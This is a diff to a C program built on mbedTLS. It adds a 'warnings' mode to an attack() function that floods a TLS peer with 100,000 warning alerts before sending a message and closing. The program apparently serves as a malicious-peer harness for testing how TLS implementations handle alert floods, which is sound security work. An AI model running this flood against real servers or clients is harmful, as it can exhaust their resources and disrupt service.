@@ -7,6 +7,9 @@
 #include <sys/socket.h>
 #include <unistd.h>
 
+/** Some 2 MB. */
+#define WARNINGS 100000
+
 static int send_to(void *context, const unsigned char *from, size_t count)
 {
 	ssize_t sent = send(*(int *)context, from, count, MSG_NOSIGNAL);
@@ -30,6 +33,21 @@ static void piece(mbedtls_ssl_context *ssl, const uint8_t *head, size_t count)
 		fprintf(stderr, "a piece was not sent\n");
 }
 
+/** Warnings that mean nothing, and then a word. */
+static void warn(mbedtls_ssl_context *ssl)
+{
+	for (int i = 0; i < WARNINGS; i++) {
+		ssl->out_msgtype = MBEDTLS_SSL_MSG_ALERT;
+		ssl->out_msglen = 2;
+		ssl->out_msg[0] = MBEDTLS_SSL_ALERT_LEVEL_WARNING;
+		ssl->out_msg[1] = MBEDTLS_SSL_ALERT_MSG_USER_CANCELED;
+		if (mbedtls_ssl_write_record(ssl, 1) != 0)
+			return;
+	}
+	mbedtls_ssl_write(ssl, (const uint8_t *)"heard.", 6);
+	mbedtls_ssl_close_notify(ssl);
+}
+
 static void attack(mbedtls_ssl_context *ssl, int socket, const char *kind)
 {
 	static const uint8_t ticket[4] = {4, 0, 0x20, 0}, longest[8] = {23, 3, 3, 255, 255};
@@ -38,6 +56,8 @@ static void attack(mbedtls_ssl_context *ssl, int socket, const char *kind)
 		for (int i = 0; i < 3; i++)
 			piece(ssl, ticket, 2000);
 	}
+	else if (!strcmp(kind, "warnings"))
+		warn(ssl);
 	else if (!strcmp(kind, "longest"))
 		send(socket, longest, sizeof longest, MSG_NOSIGNAL);
 }
